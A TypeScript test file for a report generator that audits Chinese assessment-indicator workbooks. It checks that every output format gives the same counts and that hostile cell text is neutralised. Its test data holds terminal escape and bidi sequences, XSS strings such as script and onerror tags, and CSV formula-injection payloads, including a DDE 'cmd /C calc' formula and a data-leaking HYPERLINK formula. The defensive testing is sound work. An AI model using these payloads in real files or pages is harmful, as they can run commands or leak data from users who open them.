/** Reports: one run says the same in every format; nothing of a cell becomes a formula, markup or a terminal command. */
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { auditFiles, withWaivers } from '../src/commands/audit-files.ts';
import type { Output } from '../src/commands/report-run.ts';
import { loadLibrary } from '../src/lists/load.ts';
import { Package } from '../src/ooxml/package.ts';
import { DEFAULT_LIMITS, openTables } from '../src/read/open.ts';
import { field } from '../src/report/csv.ts';
import { cutAround, wrap } from '../src/report/lines.ts';
import { escapeMd } from '../src/report/md.ts';
import { FORMATS } from '../src/report/registry.ts';
import { markEvidence } from '../src/report/row.ts';
import { Tally } from '../src/report/summary.ts';
import { WORDS } from '../src/report/words.ts';
import { renderWorkbook } from '../src/report/xlsx.ts';
import { displayWidth } from '../src/text.ts';
import {
  type InputSummary,
  type JudgedRow,
  type Lang,
  type RawRow,
  type Report,
  type ReportContext,
  VERDICTS,
  type Verdict,
} from '../src/types.ts';
import { WaiverBook } from '../src/waivers.ts';
import { districtWorkbook, indicators, WORKBOOK } from './cases/make-district.ts';
import { convert, office } from './office.ts';

const folder = mkdtempSync(join(tmpdir(), 'qingdan-report-'));
test.after(() => rmSync(folder, { recursive: true, force: true }));

const LIMITS = { ...DEFAULT_LIMITS, parseMs: 120_000 };

// ---------------------------------------------------------------- one run, every format

/** Loaded once: a list that is edited meanwhile does not turn a test red. */
const library = loadLibrary('lists');

/** Format id → bytes of one run over the shipped case. */
async function reports(ids: readonly string[], lang: Lang = 'zh'): Promise<Map<string, Buffer>> {
  const written = new Map<string, Buffer[]>();
  const outputs: Output[] = [];
  for (const id of ids) {
    const pieces: Buffer[] = [];
    written.set(id, pieces);
    const format = await FORMATS[id]!();
    outputs.push({
      format,
      width: 120,
      color: false,
      write: async (piece) => {
        pieces.push(Buffer.from(piece));
      },
    });
  }
  await auditFiles(
    ['fixtures/cases/district-2026/年终考核指标.xlsx'],
    library,
    {
      asOf: '2026-11-22',
      lang,
      body: 'auto',
      kind: 'auto',
      sheet: null,
      headerRow: null,
      map: {},
      encoding: null,
      limits: LIMITS,
      failOn: 'never',
      ledger: null,
    },
    outputs,
    '0.0.0',
    { rows: () => undefined, end: () => undefined },
    withWaivers(new WaiverBook([], '2026-11-22', lang, new Set())),
  );
  return new Map([...written].map(([id, pieces]) => [id, Buffer.concat(pieces)]));
}

const ALL = ['table', 'json', 'jsonl', 'csv', 'xlsx', 'md'];
let run: Map<string, Buffer>;
test.before(async () => {
  run = await reports(ALL);
});

const text = (id: string): string => run.get(id)!.toString('utf8');
const json = (): Report => JSON.parse(text('json')) as Report;

/** Sheet name → rows of cells of the workbook report. */
async function sheets(bytes: Buffer): Promise<Map<string, string[][]>> {
  const file = join(folder, 'report.xlsx');
  writeFileSync(file, bytes);
  const found = new Map<string, string[][]>();
  for (const table of await openTables(file, { encoding: null, sheet: null, limits: LIMITS })) {
    const rows: RawRow[] = [];
    for await (const batch of table.rows()) rows.push(...batch);
    found.set(
      table.sheet!,
      rows.map((row) => [...row.cells]),
    );
  }
  return found;
}

/** Verdict word → how often it stands in a column. */
function counted(column: readonly string[]): Partial<Record<Verdict, number>> {
  const counts: Partial<Record<Verdict, number>> = {};
  for (const word of column) {
    const verdict = VERDICTS.find((one) => WORDS.zh.verdict[one] === word);
    assert.ok(verdict, word);
    counts[verdict] = (counts[verdict] ?? 0) + 1;
  }
  return counts;
}

const withoutZeros = (counts: Readonly<Record<Verdict, number>>): Partial<Record<Verdict, number>> =>
  Object.fromEntries(Object.entries(counts).filter(([, count]) => count > 0));

test('all counts are equal in every format of one run', async () => {
  const { summary, rows } = json();
  const wanted = withoutZeros(summary.verdict);
  const of = (judged: readonly JudgedRow[]) => counted(judged.map((row) => WORDS.zh.verdict[row.verdict]));
  assert.equal(of(rows), wanted);
  assert.is(rows.length, summary.rows.checked);
  const lines = text('jsonl').trimEnd().split('\n');
  assert.equal(of(lines.map((line) => JSON.parse(line) as JudgedRow)), wanted);

  const csv = parse(text('csv'), { bom: true, columns: true }) as Record<string, string>[];
  assert.equal(counted(csv.map((row) => row['核查结论']!)), wanted);

  const book = await sheets(run.get('xlsx')!);
  assert.equal([...book.keys()], ['问题清单', '核查结果', '按单位', '汇总', '未核查', '分值折算建议']);
  const [header, ...results] = book.get('核查结果')!;
  assert.equal(counted(results.map((row) => row[header!.indexOf('结论')]!)), wanted);
  const units = book.get('按单位')!.slice(1);
  VERDICTS.forEach((verdict, i) => {
    const sum = units.reduce((total, row) => total + Number(row[2 + i]), 0);
    assert.is(sum, summary.verdict[verdict], verdict);
  });

  for (const verdict of VERDICTS.filter((one) => summary.verdict[one] > 0)) {
    const count = summary.verdict[verdict];
    assert.match(text('table'), new RegExp(`^  ${WORDS.zh.verdict[verdict]}.* ${count} +[\\d.]+%$`, 'm'));
    assert.match(text('md'), new RegExp(`^\\| ${WORDS.zh.verdict[verdict]}.* \\| ${count} \\|`, 'm'));
    const summaryRow = book.get('汇总')!.find((row) => row[0]?.startsWith(WORDS.zh.verdict[verdict]));
    assert.is(Number(summaryRow?.[1]), count);
    const shown = text('table').split('\n汇总\n')[0]!.split('\n');
    const word = `  ${WORDS.zh.short[verdict]} `;
    assert.is(shown.filter((line) => line.slice(8).startsWith(word)).length, count, verdict);
  }
  for (const id of ['table', 'md']) {
    assert.ok(text(id).includes(WORDS.zh.rowCounts(summary.rows)), id);
    assert.ok(text(id).includes(WORDS.zh.pointsLine(summary.points)), id);
    assert.ok(text(id).includes(WORDS.zh.findingCounts(summary.findings)), id);
  }
});

test('same input, same bytes', async () => {
  const again = await reports(ALL);
  for (const id of ALL) assert.ok(run.get(id)!.equals(again.get(id)!), id);
});

test('English has the same counts and no Chinese words of ours', async () => {
  const english = await reports(['table', 'json'], 'en');
  const { summary } = JSON.parse(english.get('json')!.toString('utf8')) as Report;
  assert.equal(summary.verdict, json().summary.verdict);
  const shown = english.get('table')!.toString('utf8');
  assert.ok(shown.includes(WORDS.en.rowCounts(summary.rows)));
  for (const word of [...Object.values(WORDS.zh.verdict), '汇总', '读入的表'])
    assert.not.ok(shown.includes(`\n${word}`), word);
});

test('CSV keeps every column of every table', async () => {
  const { inputs, rows } = json();
  const [header] = parse(text('csv'), { bom: true }) as string[][];
  for (const input of inputs)
    for (const name of input.header) assert.ok(header!.includes(name), `${input.sheet}: ${name}`);
  const records = parse(text('csv'), { bom: true, columns: true }) as Record<string, string>[];
  rows.forEach((row, i) => {
    const record = records[i]!;
    assert.is(`${record['工作表']}!${record['单元格']}`, `${row.sheet}!${row.cell}`);
    // the matter stands in its own column
    assert.ok(
      Object.values(record).some((cell) => cell !== '' && row.text.startsWith(cell)),
      row.text,
    );
  });
  assert.equal(header!.slice(0, 3), ['文件', '工作表', '单元格']);
  assert.equal(header!.slice(-9), [
    '核查结论',
    '清单事项',
    '核查理由',
    '清单依据',
    '处理意见',
    '行标识',
    '人工结论',
    '核定理由',
    '核定单位',
  ]);
  assert.ok(text('csv').startsWith('\ufeff'));
  assert.is(text('csv').split('\r\n').length - 1, parse(text('csv')).length);
});

test('the shipped case is what its text says, and is read whole', async () => {
  const made = await Package.open(await districtWorkbook());
  const shipped = await Package.open(readFileSync(WORKBOOK));
  assert.equal(made.names(), shipped.names());
  for (const name of made.names()) assert.is(made.text(name), shipped.text(name), name);
  const wanted = [...indicators()].flatMap(([unit, rows]) => rows.map((row) => `${unit} ${row.text}`));
  assert.ok(wanted.length >= 120);
  const { rows } = json();
  assert.is(rows.length, wanted.length);
  wanted.forEach((one, i) => {
    assert.ok(`${rows[i]!.unit} ${rows[i]!.text}`.includes(one.split(' ')[1]!), one);
    assert.is(rows[i]!.unit, one.split(' ')[0]);
  });
});

test('the shipped case is judged as its author labelled it, nearly everywhere', () => {
  const wanted = [...indicators().values()].flat();
  const right = json().rows.filter((row, i) => row.verdict === wanted[i]!.verdict).length;
  assert.ok(right / wanted.length >= 0.82, `${right} of ${wanted.length}`);
});

// ---------------------------------------------------------------- made-up rows

const CONTEXT: ReportContext = {
  lang: 'zh',
  width: 120,
  color: false,
  items: new Map(),
  rules: [],
  cells: (row) => [row.text],
  header: () => ['事项'],
};

function judged(over: Partial<JudgedRow>): JudgedRow {
  return {
    source: 'a.csv',
    sheet: null,
    row: 2,
    cell: 'A2',
    id: null,
    unit: '区文旅局',
    section: null,
    text: '完成报刊征订任务',
    kind: 'indicator',
    body: 'village',
    verdict: 'prohibited',
    list: 'prohibited',
    item: 'V-P-08',
    score: 1,
    strength: 'strong',
    alternatives: [],
    reason: '命中',
    evidence: [],
    findings: [],
    basis_outcome: 'basis-missing',
    citations: [],
    funding_outcome: 'missing',
    points: 5,
    key: 'k',
    ...over,
  };
}

function reportOf(rows: readonly JudgedRow[]): Report {
  const tally = new Tally();
  for (const row of rows) tally.add(row);
  const input: InputSummary = {
    file: 'a.csv',
    sheet: null,
    hidden: false,
    format: 'csv',
    encoding: 'utf-8',
    header: ['事项'],
    headerRow: 1,
    columns: { text: ['事项'] },
    rows: { read: rows.length, checked: rows.length, blank: 0, skipped: 0 },
    skipped: {},
    warnings: [],
  };
  return {
    tool: 'qingdan',
    version: '0.0.0',
    schema: '1',
    as_of: '2026-11-22',
    lists: { edition: '2026', hash: '0'.repeat(64) },
    inputs: [input],
    summary: tally.summary([input]),
    rows,
    findings: [],
  };
}

/** A report of these rows as text in one format. */
async function rendered(id: string, rows: readonly JudgedRow[], context: Partial<ReportContext> = {}): Promise<string> {
  const format = await FORMATS[id]!();
  const whole = reportOf(rows);
  const all = { ...CONTEXT, ...context };
  if (!format.stream) return Buffer.from(await format.render!(whole, all)).toString('utf8');
  const stream = format.stream(all);
  const { rows: _, ...head } = whole;
  return stream.begin() + rows.map((row) => stream.row(row)).join('') + stream.end(head);
}

const HOSTILE = [
  '\u001b[31m红\u001b[0m',
  '\u009b31m',
  '\u001b]8;;http://x\u0007点我\u001b]8;;\u0007',
  '\u202e反转\u202c',
  '\u2066隔离\u2069',
  '回车\r覆盖',
  '铃\u0007退格\u0008',
  '\u0000空',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '[链接](javascript:alert(1))',
  '| 多一格 | 又一格 |',
  '`代码` *斜* **粗** _下划_ ~~删~~',
  '# 标题',
  '1. 编号',
  'https://example.com www.example.com',
  '&lt;b&gt; $x^2$',
];
const hostile = HOSTILE.map((one) =>
  judged({
    text: one,
    unit: one,
    section: one,
    source: one,
    sheet: one,
    reason: one,
    evidence: [{ start: 0, end: one.length, quote: one, why: 'object' }],
  }),
);

test('no control and no bidi character reaches the terminal, with colour or without', async () => {
  for (const width of [40, 80, 200]) {
    const shown = await rendered('table', hostile, { width });
    assert.not.match(shown, /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
    const colored = await rendered('table', hostile, { width, color: true });
    assert.match(colored, /\u001b\[/);
    assert.not.match(
      colored.replace(/\u001b\[\d+(;\d+)*m/g, ''),
      /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e]/,
    );
  }
});

test('JSON and CSV that are shown on a terminal do nothing there, and JSON loses nothing', async () => {
  for (const id of ['json', 'jsonl', 'csv']) {
    const shown = (await rendered(id, hostile)).replaceAll('\r\n', '\n').replace(/^\ufeff/, '');
    assert.not.match(shown.replaceAll('\r', ''), /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/, id);
    if (id !== 'csv') assert.not.match(shown, /[\u202a-\u202e\u2066-\u2069]/, id);
  }
  assert.equal((JSON.parse(await rendered('json', hostile)) as Report).rows, hostile);
});

test('no line is wider than the terminal, evidence is seen, and narrow terminals work', async () => {
  const long = `${'前'.repeat(300)}征订任务${'后'.repeat(300)}`;
  const row = judged({
    text: long,
    evidence: [{ start: 300, end: 304, quote: '征订任务', why: 'object' }],
    reason: `理由${'长'.repeat(200)}`,
  });
  for (const width of [40, 60, 72, 80, 120, 200]) {
    const shown = await rendered('table', [row, judged({ verdict: 'listed', text: long })], { width });
    for (const line of shown.split('\n')) assert.ok(displayWidth(line) <= width, `${width}: ${line}`);
    assert.match(shown.replace(/\s+/g, ''), /【征订任务】/);
  }
});

test('Markdown: the same number of cells in every row, and nothing but text in them', async () => {
  const shown = await rendered('md', hostile);
  assert.not.match(shown, /(^|[^\\])[<>]/);
  assert.not.match(shown, /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
  assert.not.match(shown, /[^\\]\]\(/);
  const problems = shown.split('## 问题清单')[1]!.split('\n## ')[0]!;
  for (const line of problems.split('\n').filter((one) => one.startsWith('|')))
    assert.is(line.replace(/\\\\/g, '').split(/(?<!\\)\|/).length, 9, line);
  assert.is(escapeMd('# 标题'), '\\# 标题');
  assert.is(escapeMd('1. 编号'), '1\\. 编号');
  assert.is(escapeMd('3日内上报，每次扣0.5分'), '3日内上报，每次扣0.5分');
});

const PAYLOADS = [
  '=1+1',
  '+1',
  '-1',
  '@SUM(1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '\0=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://x?"&A1,"点")',
  '"=1+1"',
  '正常文字',
  '带,逗号和"引号"',
  'a;=1+1',
  'a\t=1+1',
];

test('CSV: no cell begins like a formula, and the text is still there', () => {
  for (const payload of PAYLOADS) {
    const [[cell]] = parse(`${field(payload)}\r\n`) as [[string]];
    assert.not.match(cell!, /^[=+\-@\t\r\n\0＝＋－＠]/, payload);
    assert.ok(cell!.endsWith(payload.replaceAll('\0', '')), payload);
  }
  fc.assert(
    fc.property(fc.string({ unit: 'binary' }), (any) => {
      const [[cell] = ['']] = parse(`${field(any)},x\r\n`) as [[string]];
      const kept = any
        .replace(
          /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/g,
          '',
        )
        .toWellFormed();
      assert.ok(cell === kept || cell === `'${kept}`);
    }),
    { numRuns: 300 },
  );
});

test('CSV: a longer run than is held back keeps all cells, later columns in one', async () => {
  const rows = Array.from({ length: 20_002 }, (_, i) => judged({ cell: `A${i + 2}`, text: `第${i}项` }));
  const last = rows.at(-1)!;
  const shown = await rendered('csv', rows, {
    cells: (row) => (row === last ? [row.text, '后来的'] : [row.text]),
    header: (row) => (row === last ? ['事项', '新列'] : ['事项']),
  });
  const records = parse(shown, { bom: true, columns: true }) as Record<string, string>[];
  assert.is(records.length, rows.length);
  assert.is(records.at(-1)!['其他列'], '新列：后来的');
  assert.is(records.at(-1)!['事项'], last.text);
});

test('a workbook goes on in further sheets when one is full; hostile cells are text', async () => {
  const bytes = await renderWorkbook(reportOf([...hostile, judged({ text: '=1+1' })]), CONTEXT, 10);
  const book = await Package.open(bytes);
  const names = [...book.text('xl/workbook.xml').matchAll(/<sheet name="([^"]+)"/g)].map((match) => match[1]);
  assert.equal(names, ['问题清单', '问题清单2', '核查结果', '核查结果2', '按单位', '汇总', '未核查']);
  for (const name of book.names().filter((one) => one.includes('worksheets/')))
    assert.not.match(book.text(name), /<f[\s>/]|<hyperlink/);
  assert.ok(book.has('xl/charts/chart1.xml'));
  assert.match(book.text('xl/worksheets/sheet5.xml'), /<dataBar/);
});

test('evidence: the pieces of a text are the whole text', () => {
  fc.assert(
    fc.property(fc.string({ unit: 'grapheme' }), fc.array(fc.tuple(fc.nat(30), fc.nat(30))), (any, ends) => {
      const evidence = ends
        .map(([a, b]) => ({ start: Math.min(a, b, any.length), end: Math.min(Math.max(a, b), any.length) }))
        .map(({ start, end }) => ({ start, end, quote: any.slice(start, end), why: 'object' }));
      const pieces = markEvidence(any, evidence, (piece) => piece);
      assert.is(pieces.map((piece) => piece.text).join(''), any);
    }),
  );
});

test('lines: nothing is lost in wrapping, nothing is too wide', () => {
  const style = (piece: string): string => piece;
  fc.assert(
    fc.property(fc.string({ unit: 'grapheme' }), fc.integer({ min: 4, max: 60 }), (any, width) => {
      const lines = wrap([{ text: any, style }], width);
      for (const line of lines) assert.ok(displayWidth(line) <= width);
      const squeeze = (value: string): string => value.replace(/\s/g, '');
      assert.is(squeeze(lines.join('')), squeeze(any));
      const cut = cutAround([{ text: any, style }], width, () => true);
      assert.ok(cut.reduce((sum, piece) => sum + displayWidth(piece.text), 0) <= width);
    }),
  );
  assert.equal(wrap([{ text: '取消该事项，由宣传部门自行完成。', style }], 12), [
    '取消该事项，',
    '由宣传部门自',
    '行完成。',
  ]);
});

const withOffice = office ? test : test.skip;

withOffice('LibreOffice: our CSV becomes a workbook without formulas', async () => {
  const file = join(folder, 'payloads.csv');
  writeFileSync(
    file,
    await rendered(
      'csv',
      PAYLOADS.map((one) => judged({ text: one, source: one, reason: one })),
    ),
  );
  const book = await Package.open(readFileSync(convert(file, 'xlsx')));
  for (const name of book.names().filter((one) => one.includes('worksheets/')))
    assert.not.match(book.text(name), /<f[\s>]/);
});

withOffice('LibreOffice: the workbook report opens, with its sheets and its chart', async () => {
  const file = join(folder, 'case.xlsx');
  writeFileSync(file, run.get('xlsx')!);
  const back = await Package.open(readFileSync(convert(file, 'xlsx')));
  const names = [...back.text('xl/workbook.xml').matchAll(/<sheet name="([^"]+)"/g)].map((match) => match[1]);
  assert.equal(names, ['问题清单', '核查结果', '按单位', '汇总', '未核查', '分值折算建议']);
  assert.ok(back.names().some((name) => name.startsWith('xl/charts/chart')));
  const all = await sheets(readFileSync(file));
  const again = await sheets(await back.bytes());
  for (const [name, rows] of all)
    assert.equal(
      again.get(name)!.map((row) => row[0]),
      rows.map((row) => row[0]),
      name,
    );
});

test.run();
